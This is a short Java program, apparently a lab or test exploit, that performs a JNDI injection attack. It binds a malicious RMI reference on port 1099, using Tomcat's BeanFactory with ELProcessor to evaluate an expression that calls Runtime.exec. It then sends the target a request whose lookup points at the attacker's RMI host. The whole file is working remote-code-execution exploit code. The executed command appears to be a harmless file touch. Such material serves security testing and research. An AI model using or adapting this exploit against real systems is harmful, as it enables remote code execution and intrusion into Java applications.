import com.sun.jndi.rmi.registry.ReferenceWrapper;
import java.rmi.registry.LocateRegistry;
import java.rmi.registry.Registry;
import javax.naming.StringRefAddr;
import org.apache.naming.ResourceRef;
import whorl.lab.attack.Attacker;

public class Attack {
  public static void main(String[] args) throws Exception {
    ResourceRef ref =
        new ResourceRef(
            "javax.el.ELProcessor",
            null,
            "",
            "",
            true,
            "org.apache.naming.factory.BeanFactory",
            null);
    ref.add(new StringRefAddr("forceString", "x=eval"));
    ref.add(
        new StringRefAddr(
            "x",
            "\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\""
                + Attacker.touch()
                + "\")"));
    Registry registry = LocateRegistry.createRegistry(1099);
    registry.bind("a", new ReferenceWrapper(ref));
    Attacker.get("/lookup?name=" + Attacker.encode("rmi://" + Attacker.HOST + ":1099/a"));
    Attacker.done();
  }
}
